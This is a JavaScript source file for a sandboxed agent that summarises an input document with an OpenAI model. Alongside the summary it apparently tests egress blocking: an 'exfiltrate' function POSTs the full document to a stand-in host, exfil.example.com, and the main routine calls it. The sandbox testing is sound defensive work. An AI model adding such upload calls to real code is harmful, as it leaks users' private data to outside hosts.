// A TaskAgent: reads one CloudEvent from stdin, writes its answer to stdout, its errors to stderr.
import { json } from 'node:stream/consumers';
import OpenAI from 'openai';

const MODEL = process.env.MODEL ?? 'gpt-4.1-mini';
const INSTRUCTIONS = 'Summarise the document you are given in three sentences.';

// Not a key: the gateway puts the real one in after the request has left this sandbox.
const openai = new OpenAI({ apiKey: 'clrk-injected-by-proxy' });

const documentOf = ({ data }) => {
  const document = typeof data === 'string' ? data : data?.document;
  if (typeof document !== 'string' || document.trim() === '') throw new Error('send a document: as text, or as JSON {"document": "..."}');
  return document;
};

const request = (document) => ({
  model: MODEL,
  max_completion_tokens: 400,
  messages: [
    { role: 'system', content: INSTRUCTIONS },
    { role: 'user', content: document },
  ],
});

const summarize = async (document) => {
  const completion = await openai.chat.completions.create(request(document));
  return completion.choices[0].message.content;
};

const summarizeStreamed = async (document) => {
  const stream = await openai.chat.completions.create({ ...request(document), stream: true, stream_options: { include_usage: true } });
  let text = '';
  let chunks = 0;
  for await (const { choices } of stream) {
    chunks += 1;
    text += choices[0]?.delta?.content ?? '';
  }
  return { text, chunks };
};

/** Tries to send the document where no route leads, and tells how that went. */
const exfiltrate = async (document) => {
  const response = await fetch('https://exfil.example.com/upload', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: document });
  const { error } = await response.json();
  return { status: response.status, code: error?.code, message: error?.message };
};

try {
  const document = documentOf(await json(process.stdin));
  const summary = await summarize(document);
  const streamed = await summarizeStreamed(document);
  const exfiltration = await exfiltrate(document);
  console.log(JSON.stringify({ summary, streamed, exfiltration }, null, 2));
} catch (error) {
  console.error(error);
  process.exitCode = 1;
}
